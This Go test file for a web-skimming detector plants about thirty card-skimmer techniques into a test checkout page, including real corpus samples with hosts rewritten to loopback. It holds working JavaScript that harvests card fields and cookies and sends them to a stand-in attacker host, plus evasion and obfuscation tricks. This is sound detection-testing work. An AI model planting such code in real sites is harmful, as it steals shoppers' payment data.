package e2e

import (
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"html/template"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
)

// technique is one row of THREATS.md made into a page: served clean, learnt
// as the baseline, checked clean again (it must stay silent), then planted
// and checked (it must be caught).
type technique struct {
	name   string
	threat string // the THREATS.md row it stands for
	// base makes the clean page; plant turns it into the compromised one.
	base, plant func(p *page)
	wait        time.Duration
	profile     string
	// want: every kind must be among the findings; anyOf: at least one.
	want, anyOf []skimguard.Kind
	// subjects must each appear in some finding's subject.
	subjects []string
	// repeat checks the planted page this many times (once-per-visitor).
	repeat int
}

func direct(p *page)  { p.Direct = true }
func magento(p *page) { p.Magento = true }

// skim is skimmer code that, once a complete card number is in an input of
// the document, serialises every filled input as JSON into s and runs send.
func skim(send string) string {
	return `(function () {
  var sent = false;
  function grab() { var d = {}; document.querySelectorAll('input,select').forEach(function (i) { if (i.value) d[i.name || i.id] = i.value; }); return d; }
  function fire() {
    var d = grab(), card = false;
    Object.keys(d).forEach(function (k) { if (/num/.test(k) && d[k].replace(/\D/g, '').length >= 16) card = true; });
    if (!card || sent) return;
    var s = JSON.stringify(d);
    ` + send + `
  }
  document.addEventListener('change', fire, true);
  setInterval(fire, 400);
})();`
}

func script(code string) template.HTML { return template.HTML("<script>" + code + "</script>") }

func sri384(s string) string {
	h := sha512.Sum384([]byte(s))
	return "sha384-" + base64.StdEncoding.EncodeToString(h[:])
}

// corpus reads a real skimmer sample from ../shared/skimmer-corpus. Hosts in
// it are rewritten by the caller to loopback before any browser loads it.
func corpus(t testing.TB, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "shared", "skimmer-corpus", name))
	if err != nil {
		t.Fatalf("read corpus sample %s: %v (the corpus lives in ../shared beside the repository)", name, err)
	}
	return string(b)
}

func reverse(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}

func hexEscape(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, `\x%02X`, c)
	}
	return b.String()
}

func mustReplace(t testing.TB, s, old, new string) string {
	t.Helper()
	if !strings.Contains(s, old) {
		t.Fatalf("corpus sample does not contain %q: cannot rewrite its host to loopback", old)
	}
	return strings.ReplaceAll(s, old, new)
}

func techniques(t testing.TB) []*technique {
	atob := corpus(t, "gwillem__corpus_frontend_atob.js.txt")
	gate := corpus(t, "gwillem__corpus_frontend_gate.php.js.txt")
	zsmk := corpus(t, "gwillem__corpus_frontend_zs.mk.txt")
	cdnjs := corpus(t, "gwillem__corpus_frontend_cdn-js.link.js.txt")
	amasty := corpus(t, "gwillem__corpus_frontend_amasty.biz.txt")
	megalith := corpus(t, "gwillem__corpus_frontend_megalith-games.com.js.txt")
	vintage := corpus(t, "gwillem__corpus_frontend_vintagecollection.ch.js.txt")

	return []*technique{
		{
			name: "inline-fxon", threat: "inline <script> added to the checkout HTML (fx-on 2017)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`var x = new XMLHttpRequest(); x.open('POST', '` + p.EvilBase + `/gate.php'); x.send(btoa(s)); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration, skimguard.KindConnectionAdded},
		},
		{
			name: "lookalike-external", threat: "new external script from a lookalike domain",
			base: direct,
			plant: func(p *page) {
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/jquery-cdn.min.js"></script>`)
				p.EvilFiles["/jquery-cdn.min.js"] = skim(`new Image().src = '` + p.EvilBase + `/p.gif?d=' + encodeURIComponent(btoa(s)); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/jquery-cdn.min.js"},
		},
		{
			name: "appended-first-party", threat: "code appended to a first-party file, firing on the pay button's mouseup (British Airways 2018)",
			base: direct,
			plant: func(p *page) {
				p.AppJS += `window.addEventListener('load', function () {
  var b = document.getElementById('pay');
  function f() { var n = {}; new FormData(document.getElementById('payment')).forEach(function (v, k) { n[k] = v; });
    var x = new XMLHttpRequest(); x.open('POST', '` + p.EvilBase + `/gateway/app/dataprocessing/api'); x.setRequestHeader('Content-Type', 'application/json;charset=UTF-8'); x.send(JSON.stringify(n)); }
  b.addEventListener('mouseup', f); b.addEventListener('touchend', f);
});`
			},
			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindDataExfiltration},
			subjects: []string{"/static/app.js"},
		},
		{
			name: "third-party-compromised", threat: "compromised third-party script (Ticketmaster 2018 chat widget)",
			base: direct,
			plant: func(p *page) {
				p.WidgetJS += `document.addEventListener('blur', function (e) { if (!e.target || !e.target.value || e.target.value.replace(/\D/g, '').length < 15) return;
  fetch('` + p.EvilBase + `/c', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ k: e.target.value }) }); }, true);`
			},
			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindDataExfiltration},
			subjects: []string{"/widget.js"},
		},
		{
			name: "tag-manager", threat: "tag manager container loads the skimmer at run time",
			plant: func(p *page) {
				p.GTMJS = `(function () { var tags = [function () { var s = document.createElement('script'); s.src = '` + p.EvilBase + `/tag.js'; document.head.appendChild(s); }]; tags.forEach(function (t) { t(); }); })();`
				p.EvilFiles["/tag.js"] = `new Image().src = '` + p.EvilBase + `/t.gif?c=' + encodeURIComponent(document.cookie);`
			},
			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
			subjects: []string{"/gtm.js", "/tag.js"},
		},
		{
			name: "eval-snippet", threat: "code run by eval / new Function, with no URL",
			base: func(p *page) {
				direct(p)
				p.AppJS = `fetch(location.pathname.replace(/checkout$/, 'static/snippet.txt')).then(function (r) { return r.text(); }).then(function (t) { new Function(t)(); });`
				p.Snippet = `document.body.dataset.promo = 'free-shipping';`
			},
			plant: func(p *page) {
				p.Snippet = skim(`navigator.sendBeacon('` + p.EvilBase + `/b', btoa(s)); sent = true;`)
			},
			want:  []skimguard.Kind{skimguard.KindDataExfiltration},
			anyOf: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindScriptChanged},
		},
		{
			name: "svg-onload", threat: "inline event handler <svg onload> (Sansec SVG skimmer 2020)",
			base: direct,
			plant: func(p *page) {
				code := skim(`new Image().src = '` + p.EvilBase + `/s.gif?d=' + encodeURIComponent(btoa(s)); sent = true;`)
				p.Body = template.HTML(`<svg width="1" height="1" onload="` + template.HTMLEscapeString(code) + `"></svg>`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"onload"},
		},
		{
			name: "img-onerror-jsurl", threat: "inline event handlers <img onerror> and javascript: URLs",
			base: direct,
			plant: func(p *page) {
				p.Body = template.HTML(`<img src="/missing.png" width="1" height="1" onerror="` +
					template.HTMLEscapeString(`new Image().src='`+p.EvilBase+`/e.gif?c='+encodeURIComponent(document.cookie)`) + `">` +
					`<a id="help" href="javascript:void(new Image().src='` + p.EvilBase + `/h.gif')">help</a>`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
			subjects: []string{"onerror", "javascript"},
		},
		{
			name: "fake-card-form", threat: "fake card form injected over the provider's iframe, the real one hidden",
			plant: func(p *page) {
				p.Body = script(`(function () {
  document.getElementById('card-frame').style.display = 'none';
  var f = document.createElement('form'); f.id = 'ccsave'; f.action = '` + p.EvilBase + `/c.php'; f.method = 'post';
  f.innerHTML = '<input name="cc_number" autocomplete="cc-number"><input name="cc_exp" autocomplete="cc-exp"><input name="cc_cid" autocomplete="cc-csc">';
  document.getElementById('checkout').appendChild(f);
})();` + skim(`new Image().src = '`+p.EvilBase+`/f.gif?d=' + encodeURIComponent(btoa(s)); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindFormAdded, skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "provider-iframe-lookalike", threat: "provider iframe replaced by a lookalike page (Realex/Elavon)",
			plant: func(p *page) {
				p.FrameSrc = p.EvilBase + "/hosted"
				p.EvilHTML["/hosted"] = `<!doctype html><form action="/steal" method="post"><input name="cardnumber" autocomplete="cc-number"><input name="exp-date" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"></form>
<script>document.addEventListener('change', function (e) { if (e.target.name === 'cardnumber') navigator.sendBeacon('/k', e.target.value); }, true);</script>`
			},
			want:  []skimguard.Kind{skimguard.KindDataExfiltration},
			anyOf: []skimguard.Kind{skimguard.KindFrameChanged, skimguard.KindFrameAdded},
		},
		{
			name: "form-action-swap", threat: "form action pointed at another host (form-jacking)",
			base: direct,
			plant: func(p *page) {
				p.Action = p.EvilBase + "/pay"
			},
			want: []skimguard.Kind{skimguard.KindFormChanged},
		},
		{
			name: "redirect-fake-payment", threat: "payment step redirected to a fake payment page (EC-CUBE 2018–2019, Zojirushi 2019)",
			base: direct,
			plant: func(p *page) {
				p.Redirect = p.EvilBase + "/payment"
				p.EvilHTML["/payment"] = `<!doctype html><h1>Payment failed, please retry</h1><form action="/retry" method="post"><input name="cc-number" autocomplete="cc-number"><input name="cc-csc" autocomplete="cc-csc"><button>Pay</button></form>`
			},
			want: []skimguard.Kind{skimguard.KindPageRedirected},
		},
		{
			name: "payload-in-favicon", threat: "payload hidden in an image (Malwarebytes favicon 2020), run from a loader",
			base: direct,
			plant: func(p *page) {
				p.Head = script(`fetch('` + p.EvilBase + `/favicon.ico').then(function (r) { return r.text(); }).then(function (t) { (0, eval)(t.slice(t.indexOf('/*!') + 3, t.lastIndexOf('*/'))); });`)
				p.EvilFiles["/favicon.ico"] = "\x00\x00\x01\x00ICO\x00/*!" + skim(`new Image().src = '`+p.EvilBase+`/i.gif?d=' + btoa(s); sent = true;`) + "*/"
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "websocket-exfil", threat: "data sent over a WebSocket (Forbes 2019)",
			base: direct,
			plant: func(p *page) {
				ws := "ws" + strings.TrimPrefix(p.EvilBase, "http") + "/ws"
				p.Body = script(`var sock = new WebSocket('` + ws + `');` + skim(`if (sock.readyState === 1) { sock.send(btoa(s)); sent = true; }`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration, skimguard.KindConnectionAdded},
		},
		{
			name: "beacon-hex", threat: "navigator.sendBeacon with hex-encoded data",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`navigator.sendBeacon('` + p.EvilBase + `/b', Array.from(new TextEncoder().encode(s)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('')); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "allowed-service-exfil", threat: "card data sent to a service the page already talks to (analytics collect endpoint), base64 reversed",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`navigator.sendBeacon('` + p.CDN + `/collect?t=event&el=' + encodeURIComponent(btoa(s).split('').reverse().join(''))); sent = true;`))
			},
			want:     []skimguard.Kind{skimguard.KindDataExfiltration},
			subjects: []string{"127.0.0.3"},
		},
		{
			name: "hidden-iframe-exfil", threat: "data sent in a hidden iframe's src (megalith-games kit)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(skim(`var f = document.createElement('iframe'); f.style.display = 'none'; f.src = '` + p.EvilBase + `/log.php?mag=' + encodeURI(s); document.body.appendChild(f); sent = true;`))
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration, skimguard.KindFrameAdded},
		},
		{
			name: "shopper-only", threat: "served only to browsers that look like shoppers (no HeadlessChrome, webdriver false, Windows UA, languages)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(`if (!navigator.webdriver && !/Headless/i.test(navigator.userAgent) && /Windows|Macintosh/.test(navigator.userAgent) && navigator.languages && navigator.languages.length) {` +
					skim(`new Image().src = '`+p.EvilBase+`/u.gif?d=' + btoa(s); sent = true;`) + `}`)
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "once-per-visitor", threat: "fires once per visitor (24 h setidd cookie)",
			base: direct,
			plant: func(p *page) {
				p.Body = script(`if (document.cookie.indexOf('setidd=') < 0) { document.cookie = 'setidd=' + Date.now() + '; path=/; max-age=86400';` +
					skim(`new Image().src = '`+p.EvilBase+`/o.gif?d=' + btoa(s); sent = true;`) + `}`)
			},
			repeat: 2,
			want:   []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "mobile-only", threat: "served only to mobile browsers (several profiles)",
			base: direct, profile: skimguard.ProfileMobile,
			plant: func(p *page) {
				p.Body = script(`if (/Android|iPhone/.test(navigator.userAgent) && navigator.maxTouchPoints > 0) {` +
					skim(`new Image().src = '`+p.EvilBase+`/m.gif?d=' + btoa(s); sent = true;`) + `}`)
			},
			want: []skimguard.Kind{skimguard.KindDataExfiltration},
		},
		{
			name: "delayed-loader", threat: "waits 5–10 s before loading anything",
			base: direct, wait: 9 * time.Second,
			plant: func(p *page) {
				p.Body = script(`setTimeout(function () { var s = document.createElement('script'); s.src = '` + p.EvilBase + `/late.js'; document.head.appendChild(s); }, 6000);`)
				p.EvilFiles["/late.js"] = skim(`new Image().src = '` + p.EvilBase + `/l.gif?d=' + btoa(s); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/late.js"},
		},
		{
			name: "obfuscated-per-request", threat: "obfuscated and different on every request",
			base: direct,
			plant: func(p *page) {
				v := "_0x" + rnd(3)
				p.Body = script(`var ` + v + ` = ['` + hexEscape(p.EvilBase+"/z.gif?d=") + `'];` + skim(`new Image().src = `+v+`[0] + btoa(s); sent = true;`))
			},
			repeat: 2,
			want:   []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "integrity-dropped", threat: "SRI integrity attribute dropped from a third-party script",
			base: func(p *page) {
				direct(p)
				p.SRIAttrs = template.HTMLAttr(`integrity="` + sri384(p.LibJS) + `" crossorigin="anonymous"`)
			},
			plant: func(p *page) { p.SRIAttrs = "" },
			want:  []skimguard.Kind{skimguard.KindScriptAttributesChanged},
		},
		{
			name: "csp-removed", threat: "security header removed (PCI DSS 11.6.1 watches headers)",
			base:  direct,
			plant: func(p *page) { p.CSP = "" },
			want:  []skimguard.Kind{skimguard.KindHeaderRemoved},
		},

		// Real skimmers from ../shared/skimmer-corpus, hosts rewritten to loopback.
		{
			name: "corpus-atob-checkout", threat: "corpus atob.js: eval(atob()) loader, only on checkout URLs, document.write of a reversed URL",
			base: direct,
			plant: func(p *page) {
				enc := strings.SplitN(strings.SplitN(atob, "atob']('", 2)[1], "'", 2)[0]
				dec, err := base64.StdEncoding.DecodeString(enc)
				if err != nil {
					panic(err)
				}
				code := strings.ReplaceAll(string(dec), reverse("https://ups-broker.org/e.js"), reverse(p.EvilBase+"/e.js"))
				p.Head = script(strings.Replace(atob, enc, base64.StdEncoding.EncodeToString([]byte(code)), 1))
				p.EvilFiles["/e.js"] = skim(`new Image().src = '` + p.EvilBase + `/a.gif?d=' + btoa(s); sent = true;`)
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/e.js"},
		},
		{
			name: "corpus-gate-php", threat: "corpus gate.php.js: polls every 700 ms, posts the Magento payment form once PAN and CVV are complete",
			base: magento,
			plant: func(p *page) {
				code := mustReplace(t, gate, "https://jcloudcdn.com/gate.php?token=KjsS29Msl&host=grownuphydroponics.com", p.EvilBase+"/gate.php?token=KjsS29Msl&host=shop.test")
				p.Body = template.HTML(code)
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
		},
		{
			name: "corpus-zs-mk", threat: "corpus zs.mk: image-beacon exfiltration of cookies and location",
			base: direct,
			plant: func(p *page) {
				p.Body = script(mustReplace(t, zsmk, "http://zs.mk/", p.EvilBase+"/"))
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
		},
		{
			name: "corpus-cdn-js-link", threat: "corpus cdn-js.link.js: hex string-array obfuscation, 5 s delay, fires on input",
			base: magento, wait: 7 * time.Second,
			plant: func(p *page) {
				code := mustReplace(t, cdnjs, hexEscape("https://cdn-js.link/mag.php"), hexEscape(p.EvilBase+"/mag.php"))
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/cdn-js.js"></script>`)
				p.EvilFiles["/cdn-js.js"] = code
			},
			// The crawler types late in the window, after the 5 s delay.
			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
			subjects: []string{"/cdn-js.js"},
		},
		{
			name: "corpus-amasty-onepage", threat: "corpus amasty.biz: eval(String.fromCharCode(...)), setTimeout(string) loop, on onepage URLs",
			base: direct,
			plant: func(p *page) {
				code := mustReplace(t, amasty, fromCharCodes("https://amasty.biz/lib/paypal_icon.jpg"), fromCharCodes(p.EvilBase+"/lib/paypal_icon.jpg"))
				p.Body = template.HTML(code)
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded},
		},
		{
			name: "corpus-megalith", threat: "corpus megalith-games.com.js: rewrites the pay button's onclick, exfiltrates through a hidden iframe",
			base: magento,
			plant: func(p *page) {
				p.Body = template.HTML(mustReplace(t, megalith, "http://megalith-games.com/log.php", p.EvilBase+"/log.php"))
			},
			want: []skimguard.Kind{skimguard.KindScriptAdded},
		},
		{
			name: "corpus-vintagecollection", threat: "corpus vintagecollection.ch.js: once-per-visitor cookie, lookalike jQuery domain",
			base: direct,
			plant: func(p *page) {
				p.Head = template.HTML(`<script src="` + p.EvilBase + `/jquery.min.js"></script>`)
				p.EvilFiles["/jquery.min.js"] = mustReplace(t, vintage, "https://jquery-main.su/jquery.min.js", p.EvilBase+"/jquery.min.js")
			},
			want:     []skimguard.Kind{skimguard.KindScriptAdded},
			subjects: []string{"/jquery.min.js"},
		},
	}
}

// fromCharCodes writes s as the comma-separated char codes the amasty
// sample's String.fromCharCode call takes.
func fromCharCodes(s string) string {
	parts := make([]string, len(s))
	for i, c := range []byte(s) {
		parts[i] = fmt.Sprint(c)
	}
	return strings.Join(parts, ",")
}
